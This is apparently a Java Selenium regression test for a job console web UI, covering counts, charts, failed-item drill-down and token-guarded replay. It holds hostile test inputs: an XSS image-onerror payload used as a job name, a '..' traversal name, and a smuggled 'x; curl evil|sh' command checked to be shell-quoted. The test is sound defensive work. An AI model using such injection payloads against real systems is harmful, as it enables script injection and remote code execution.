package io.itemfleet.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.zaxxer.hikari.HikariDataSource;
import io.itemfleet.handler.HandlerResult;
import io.itemfleet.handler.TaskHandler;
import io.itemfleet.recorder.ConsoleQueries;
import io.itemfleet.recorder.DbSettings;
import io.itemfleet.recorder.LedgerDatabase;
import io.itemfleet.recorder.LedgerQueries;
import io.itemfleet.recorder.Recorder;
import io.itemfleet.recorder.RecorderSettings;
import io.itemfleet.schemas.FleetTopics;
import io.itemfleet.testkit.FleetTestKit;
import io.itemfleet.testkit.TestFleet;
import io.itemfleet.web.MetricsServer;
import io.itemfleet.worker.Worker;
import io.itemfleet.worker.WorkerMetrics;
import io.itemfleet.worker.config.FleetConfig;
import io.itemfleet.worker.config.HandlerRegistry;
import io.itemfleet.worker.config.TaskSettings;
import io.itemfleet.worker.config.WorkerSettings;
import io.micrometer.prometheusmetrics.PrometheusConfig;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;

/**
 * The console in a real browser (headless Chromium through chromedriver, Debian's packages),
 * against a recorder and a worker on the real embedded servers, as a person on call uses it. Skips
 * with a message where Chromium or chromedriver is missing ({@code .ci/run} installs them). With
 * {@code -Ditemfleet.screenshot=PATH} it saves the job page there (docs/console-job.png).
 */
@ExtendWith(FleetTestKit.class)
class ConsoleBrowserTest {
  private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
  private static final Path CHROMEDRIVER = Path.of("/usr/bin/chromedriver");
  private static final String HOSTILE = "<img src=x onerror=alert(1)>";

  @Test
  void anOnCallPersonSeesMovingCountsChartsFailedItemsAndReplaysWithTheToken(TestFleet f)
      throws Exception {
    assumeTrue(
        Files.isExecutable(CHROMIUM) && Files.isExecutable(CHROMEDRIVER),
        "Chromium or chromedriver not installed (apt-get install chromium chromium-driver)");
    TaskHandler slow =
        ctx -> {
          Thread.sleep(40);
          return Integer.parseInt(ctx.item()) <= 5
              ? HandlerResult.failed("thumb.missing", "video " + ctx.item() + " has no frames")
              : HandlerResult.succeeded();
        };
    ProduceCommandTest.produceRange(f, 2, "console-job", "t", 1500);
    ProduceCommandTest.produceRange(f, 2, HOSTILE, "t", 3);
    ProduceCommandTest.produceRange(f, 2, "..", "t", 2);
    FleetTopics topics = new FleetTopics(f.prefix());
    Map<String, Object> kafka = Map.of("bootstrap.servers", f.kafkaBootstrap());
    FleetConfig config = FleetConfig.empty(TaskSettings.DEFAULTS);
    DbSettings db = new DbSettings(f.jdbcUrl(), f.dbUser(), f.dbPassword());
    try (Worker w =
            Worker.start(
                WorkerSettings.defaults(kafka, topics, "console", 2),
                config,
                HandlerRegistry.create(config, Map.of("t", slow)),
                WorkerMetrics.NONE);
        Recorder rec =
            Recorder.start(RecorderSettings.defaults(kafka, topics, db), Duration.ofSeconds(30));
        HikariDataSource pool = LedgerDatabase.pool(db, 4, "console-test");
        FleetView fleet = new FleetView(kafka, topics);
        MetricsServer guarded = server();
        MetricsServer open = server()) {
      LedgerQueries q = new LedgerQueries(pool);
      ConsoleApi console = new ConsoleApi(q, new ConsoleQueries(pool), Optional.of(fleet));
      Replayer replayer = new Replayer(q, kafka, topics, Optional.empty());
      RecorderApi.serve(
          guarded, q, Optional.of("tok"), Optional.of(replayer), Optional.of(console));
      RecorderApi.serve(open, q, Optional.empty(), Optional.of(replayer), Optional.of(console));
      String base = "http://127.0.0.1:" + guarded.port() + "/";
      await().atMost(Duration.ofSeconds(60)).until(() -> q.job("console-job").isPresent());

      WebDriver b = browser();
      try {
        b.get(base);
        // The page asks for the API token once, as it does for a person; the tab keeps it.
        await().atMost(Duration.ofSeconds(20)).until(() -> alertText(b) != null);
        assertThat(alertText(b)).contains("FLEET_API_TOKEN");
        b.switchTo().alert().sendKeys("tok");
        b.switchTo().alert().accept();

        // The overview lists the running job, and its counts move.
        String before =
            await()
                .atMost(Duration.ofSeconds(30))
                .until(() -> cell(b, "console-job", 3), c -> c != null);
        await()
            .atMost(Duration.ofSeconds(30))
            .until(() -> cell(b, "console-job", 3), c -> c != null && !c.equals(before));
        // Hostile names are text, and break nothing.
        assertThat(cell(b, HOSTILE, 0))
            .as("a job named like markup is listed as text")
            .isEqualTo(HOSTILE);
        assertThat(cell(b, "..", 0)).isEqualTo("..");
        assertThat(b.findElements(By.cssSelector("#jobs img"))).isEmpty();
        // Review (2026-11-30): a bar's width is an inline style, and the page's policy refuses a
        // style set as an attribute (every bar was drawn full); set through the CSSOM it applies.
        assertThat(
                (String)
                    js(
                        b,
                        "const s = document.querySelector('#jobs .bar > span');"
                            + " return s ? s.style.width : null;"))
            .isNotNull()
            .endsWith("%");
        assertNoAlert(b);
        assertThat(b.findElement(By.id("fleet")).getText()).contains(topics.prefix() + ".workers");

        // The job page: totals and charts with data points.
        await().atMost(Duration.ofSeconds(90)).until(() -> q.job("console-job").get().done());
        b.get(base + "#/job/console-job");
        await()
            .atMost(Duration.ofSeconds(20))
            .until(
                () ->
                    b.findElements(
                                By.cssSelector(
                                    "svg.chart polyline[data-series=succeeded], svg.chart circle"))
                            .size()
                        > 0);
        assertThat((String) js(b, "return document.getElementById('job-totals').textContent;"))
            .isEqualTo("1,500 / 1,500");
        assertThat((String) js(b, "return document.querySelector('.legend i').style.background;"))
            .as("a legend swatch's colour, an inline style")
            .isNotEmpty();
        // One run: listed as it is, with no "N runs; the latest" prefix.
        assertThat((String) js(b, "return document.getElementById('job-runs').textContent;"))
            .doesNotContain("runs; the latest")
            .contains("(1,500 t, ");
        assertThat(
                b.findElements(
                    By.cssSelector(
                        "svg.chart[data-title='handler latency (bucket bound)'] polyline, svg.chart[data-title='handler latency (bucket bound)'] circle")))
            .isNotEmpty();

        // Drill-down: the group's failed items with their messages.
        String fp =
            await()
                .atMost(Duration.ofSeconds(20))
                .until(
                    () ->
                        (String)
                            js(
                                b,
                                "const r = document.querySelector('#groups tr[data-fingerprint]');"
                                    + " return r ? r.getAttribute('data-fingerprint') : null;"),
                    x -> x != null);
        b.get(base + "#/job/console-job/" + fp); // what a click on the group's row opens
        await()
            .atMost(Duration.ofSeconds(20))
            .until(() -> b.findElements(By.cssSelector("#items tr[data-item]")).size() == 5);
        assertThat(b.findElement(By.id("items")).getText()).contains("video 3 has no frames");
        assertThat(b.getPageSource()).contains("fleet replay console-job --fingerprint");
        screenshot(b);
        // Defect (API review, 5): a fingerprint taken from a shared link went into the command to
        // copy unquoted ("--fingerprint x; curl evil|sh"); it is shell-quoted like the job now.
        b.get(base + "#/job/console-job/x%3B%20curl%20evil%7Csh");
        await()
            .atMost(Duration.ofSeconds(20))
            .until(() -> b.getPageSource().contains("--fingerprint 'x; curl evil|sh'"));
        b.get(base + "#/job/console-job/" + fp); // back to the real group
        await()
            .atMost(Duration.ofSeconds(20))
            .until(() -> b.findElements(By.cssSelector("#items tr[data-item]")).size() == 5);
        // Any client sets the items' limit: it stops where the plain failures list does (it took
        // 10,000 items with their stack traces and payloads per request).
        String items =
            "http://127.0.0.1:" + open.port() + "/api/jobs/console-job/failures/" + fp + "/items";
        var tooMany = get(items + "?limit=1001");
        assertThat(tooMany.statusCode()).isEqualTo(400);
        assertThat(tooMany.body()).contains("limit").contains("1000");
        assertThat(get(items + "?limit=1000").statusCode()).isEqualTo(200);

        // Replay with the token: confirmed, sent, and the job's total grows.
        clickId(b, "replay-btn");
        await().atMost(Duration.ofSeconds(20)).until(() -> alertText(b) != null);
        assertThat(alertText(b)).contains("Replay 5 items of console-job");
        b.switchTo().alert().accept();
        await()
            .atMost(Duration.ofSeconds(20))
            .until(
                () ->
                    String.valueOf(
                            js(
                                b,
                                "const e = document.getElementById('replay-result'); return e ? e.textContent : '';"))
                        .contains("sent 5 items"));
        await()
            .atMost(Duration.ofSeconds(60))
            .until(() -> q.job("console-job").get().total().orElse(0L) == 1505);

        // A recorder without a token refuses replay, and the page says so.
        b.get("http://127.0.0.1:" + open.port() + "/#/job/console-job");
        await()
            .atMost(Duration.ofSeconds(20))
            .until(() -> !b.findElements(By.id("replay-btn")).isEmpty());
        clickId(b, "replay-btn");
        await()
            .atMost(Duration.ofSeconds(20))
            .until(
                () -> b.findElement(By.id("replay-result")).getText().contains("FLEET_API_TOKEN"));
        assertNoAlert(b);

        // A job named '..' has its page too: a browser drops '..' (and %2E%2E) from a path, so the
        // page asks the API by query parameter.
        b.get(base + "#/job/%2E%2E");
        await()
            .atMost(Duration.ofSeconds(20))
            .until(
                () ->
                    js(
                        b,
                        "const e = document.getElementById('job-title'); return e ? e.textContent : null;"),
                t -> "..".equals(t));

        // The job named like markup has a page of its own that renders its name as text.
        b.get(
            base
                + "#/job/"
                + java.net.URLEncoder.encode(HOSTILE, java.nio.charset.StandardCharsets.UTF_8)
                    .replace("+", "%20"));
        await()
            .atMost(Duration.ofSeconds(20))
            .until(() -> !b.findElements(By.id("job-title")).isEmpty());
        assertThat(b.findElement(By.id("job-title")).getText()).isEqualTo(HOSTILE);
        assertNoAlert(b);
      } finally {
        b.quit();
      }
    }
  }

  private static MetricsServer server() {
    return MetricsServer.start(
        "127.0.0.1", 0, new PrometheusMeterRegistry(PrometheusConfig.DEFAULT), () -> true);
  }

  private static WebDriver browser() {
    ChromeOptions o = new ChromeOptions();
    o.setBinary(CHROMIUM.toFile());
    o.addArguments(
        "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1400,1000");
    ChromeDriverService s =
        new ChromeDriverService.Builder().usingDriverExecutable(CHROMEDRIVER.toFile()).build();
    return new ChromeDriver(s, o);
  }

  /** The text of a job row's cell, read in one step (the page re-renders every 5 s). */
  private static String cell(WebDriver b, String job, int column) {
    return (String)
        js(
            b,
            "for (const r of document.querySelectorAll('#jobs tr[data-job]')) {"
                + " if (r.getAttribute('data-job') === arguments[0])"
                + " return r.children[arguments[1]].textContent; } return null;",
            job,
            column);
  }

  /** Clicks an element by id, again if a re-render replaced it in between. */
  private static void clickId(WebDriver b, String id) {
    for (int i = 0; ; i++) {
      try {
        b.findElement(By.id(id)).click();
        return;
      } catch (org.openqa.selenium.StaleElementReferenceException e) {
        if (i == 5) throw e;
      }
    }
  }

  private static Object js(WebDriver b, String script, Object... args) {
    return ((org.openqa.selenium.JavascriptExecutor) b).executeScript(script, args);
  }

  private static String alertText(WebDriver b) {
    try {
      return b.switchTo().alert().getText();
    } catch (NoAlertPresentException e) {
      return null;
    }
  }

  private static void assertNoAlert(WebDriver b) {
    assertThat(alertText(b)).as("no script ran from a name").isNull();
  }

  private static void screenshot(WebDriver b) throws Exception {
    String to = System.getProperty("itemfleet.screenshot");
    byte[] png = ((org.openqa.selenium.TakesScreenshot) b).getScreenshotAs(OutputType.BYTES);
    Path target = Path.of("target", "console-job.png");
    Files.write(target, png);
    if (to != null && !to.isBlank()) Files.write(Path.of(to), png);
    assertThat(List.of(png.length)).allSatisfy(n -> assertThat(n).isGreaterThan(10_000));
  }

  /** A plain GET, no token. */
  private static java.net.http.HttpResponse<String> get(String url) throws Exception {
    return java.net.http.HttpClient.newHttpClient()
        .send(
            java.net.http.HttpRequest.newBuilder(java.net.URI.create(url)).build(),
            java.net.http.HttpResponse.BodyHandlers.ofString());
  }
}
